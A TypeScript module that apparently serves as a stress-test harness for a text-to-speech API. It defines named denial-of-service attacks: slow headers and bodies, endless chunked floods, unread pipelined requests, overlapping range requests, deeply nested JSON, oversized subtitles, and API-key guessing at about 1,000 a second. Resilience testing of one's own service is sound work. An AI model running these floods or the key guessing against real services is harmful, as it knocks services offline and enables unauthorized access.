/** Attacks on the service over its port. An attack continues until its process is killed. */
import { connect, type Socket } from "node:net"

/** The address that is attacked. The attacker also has a key with credits, and knows the URL of an audio file. */
export interface Target {
  readonly address: string
  readonly key: string
  readonly audio: string
}

type Attack = (target: Target) => void

/** Opens a connection, and another one whenever it ends. `talk` is called when it is open. */
const hold = ({ address }: Target, talk: (socket: Socket) => void): void => {
  const { hostname, port } = new URL(address)
  const socket = connect({ host: hostname, port: Number(port) })
  socket.on("connect", () => talk(socket))
  socket.on("error", () => undefined)
  socket.on("close", () => setTimeout(() => hold({ address, key: "", audio: "" }, talk), 20))
}

const many = (count: number, each: () => void): void => {
  for (let at = 0; at < count; at++) setTimeout(each, at)
}

/** Calls `act` every `milliseconds` while a connection is open. */
const repeat = (socket: Socket, milliseconds: number, act: () => void): void => {
  const timer = setInterval(act, milliseconds)
  socket.on("close", () => clearInterval(timer))
}

/** Writes as fast as the service reads. */
const flood = (socket: Socket, piece: string | Uint8Array): void => {
  const write = (): void => {
    let accepted = true
    for (let at = 0; at < 100 && accepted && !socket.destroyed; at++) accepted = socket.write(piece)
    if (accepted) setImmediate(write)
  }
  socket.on("drain", write)
  write()
}

const get = (path: string, ...lines: ReadonlyArray<string>): string =>
  `GET ${path} HTTP/1.1\r\nhost: localhost\r\n${lines.map((line) => `${line}\r\n`).join("")}\r\n`

const post = (key: string, body: string, ...lines: ReadonlyArray<string>): string =>
  [
    "POST /v1/text-to-speech/fast-en-us HTTP/1.1",
    "host: localhost",
    `xi-api-key: ${key}`,
    "content-type: application/json",
    ...lines,
    "",
    body
  ].join("\r\n")

const withLength = (key: string, body: string): string =>
  post(key, body, `content-length: ${Buffer.byteLength(body)}`)

const line = (): string => JSON.stringify({ provider: "provider_fast", text: `Line ${Math.random()}.` })

const subtitle = (cues: number): string =>
  Array.from({ length: cues }, (_, at) => `${at + 1}\n00:00:01,000 --> 00:00:02,000\nA.\n`).join("\n")

/** An account creates tasks without pause. */
const createsWithoutPause = (target: Target): void =>
  many(20, () =>
    hold(target, (socket) => {
      const next = (): unknown => socket.write(withLength(target.key, line()))
      socket.on("data", next)
      next()
    })
  )

/** Opens 500 streams of the events of an account that creates tasks without pause. */
const streamsOfEvents = (target: Target, read: (socket: Socket) => unknown): void => {
  many(500, () =>
    hold(target, (socket) => {
      read(socket)
      socket.write(get("/v1/tasks/events", `xi-api-key: ${target.key}`, "accept: text/event-stream"))
    })
  )
  createsWithoutPause(target)
}

/** The attacks by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "2,000 idle connections": (target) => many(2_000, () => hold(target, () => undefined)),
  "2,000 connections kept alive": (target) =>
    many(2_000, () =>
      hold(target, (socket) => {
        socket.resume()
        repeat(socket, 2_000, () => socket.write(get("/v1/health-check")))
      })
    ),
  "500 slow heads": (target) =>
    many(500, () =>
      hold(target, (socket) => {
        socket.write("GET /v1/tasks HTTP/1.1\r\n")
        repeat(socket, 500, () => socket.write("x: y\r\n"))
      })
    ),
  "500 slow bodies": (target) =>
    many(500, () =>
      hold(target, (socket) => {
        socket.write(post(target.key, "", "content-length: 50000"))
        repeat(socket, 500, () => socket.write(" "))
      })
    ),
  "50 chunked bodies without end": (target) =>
    many(50, () =>
      hold(target, (socket) => {
        socket.write(post(target.key, "", "transfer-encoding: chunked"))
        flood(socket, `2000\r\n${"a".repeat(0x2000)}\r\n`)
      })
    ),
  "50 heads without end": (target) =>
    many(50, () =>
      hold(target, (socket) => {
        socket.write("GET / HTTP/1.1\r\n")
        flood(socket, `x-${"a".repeat(100)}: ${"b".repeat(1_000)}\r\n`)
      })
    ),
  "50 connections of pipelined requests, never read": (target) =>
    many(50, () =>
      hold(target, (socket) =>
        flood(socket.pause(), get("/v1/voices?limit=100", `xi-api-key: ${target.key}`))
      )
    ),
  "50 readers that stop in a file": (target) =>
    many(50, () =>
      hold(target, (socket) => {
        socket.pause()
        const { pathname, search } = new URL(target.audio)
        flood(socket, get(pathname + search))
      })
    ),
  "requests for 1,000 overlapping ranges": (target) =>
    many(20, () =>
      hold(target, (socket) => {
        socket.resume()
        const { pathname, search } = new URL(target.audio)
        const ranges = Array.from({ length: 1_000 }, (_, at) => `0-${at}`).join(",")
        repeat(socket, 20, () => socket.write(get(pathname + search, `range: bytes=${ranges}`)))
      })
    ),
  "1,000 guessed keys a second": (target) =>
    many(20, () =>
      hold(target, (socket) => {
        socket.resume()
        repeat(socket, 20, () => socket.write(get("/v1/credits", `xi-api-key: sk-${Math.random()}`)))
      })
    ),
  "an account that creates without pause": createsWithoutPause,
  "500 streams of events, and creates without pause": (target) =>
    streamsOfEvents(target, (socket) => socket.resume()),
  "500 streams of events, never read": (target) => streamsOfEvents(target, (socket) => socket.pause()),
  "8 subtitles of 100,000 cues at once": (target) =>
    many(8, () =>
      hold(target, (socket) => {
        const body = JSON.stringify({ provider: "provider_native", text: subtitle(100_000) })
        const next = (): unknown => socket.write(withLength(target.key, body))
        socket.on("data", next)
        next()
      })
    ),
  "one speech in six formats and many tempos, never read": (target) =>
    many(60, () =>
      hold(target, (socket) => {
        socket.pause()
        const formats = ["mp3", "opus", "aac", "flac", "wav", "pcm"]
        const body = JSON.stringify({
          model: "tts-1",
          voice: "nova",
          input: "One line.",
          response_format: formats[Math.floor(Math.random() * formats.length)],
          speed: 1 + Math.floor(Math.random() * 100) / 100
        })
        const head = withLength(target.key, body).replace("/v1/text-to-speech/fast-en-us", "/v1/audio/speech")
        socket.write(head.replace("xi-api-key: ", "authorization: Bearer "))
      })
    ),
  "failing tasks with webhooks to hosts without an address": (target) =>
    many(20, () =>
      hold(target, (socket) => {
        const next = (): unknown =>
          socket.write(
            withLength(
              target.key,
              JSON.stringify({
                provider: "provider_fast",
                text: "…",
                webhook_url: `https://host-${Math.random()}.invalid/`
              })
            )
          )
        socket.on("data", next)
        next()
      })
    ),
  "subtitles of unclosed tags and long time lines": (target) =>
    many(8, () =>
      hold(target, (socket) => {
        const time = "1\n00:00:01,000 --> 00:00:02,000"
        const text = `${time} ${"0".repeat(5_000)}\n<${" ".repeat(4_000)}\n${"</b a".repeat(1_000)}`
        const body = JSON.stringify({ provider: "provider_native", text })
        const next = (): unknown => socket.write(withLength(target.key, body))
        socket.on("data", next)
        next()
      })
    ),
  "JSON of 100,000 levels": (target) =>
    many(8, () =>
      hold(target, (socket) => {
        const body = `${"[".repeat(100_000)}${"]".repeat(100_000)}`
        const next = (): unknown => socket.write(withLength(target.key, body))
        socket.on("data", next)
        next()
      })
    )
}
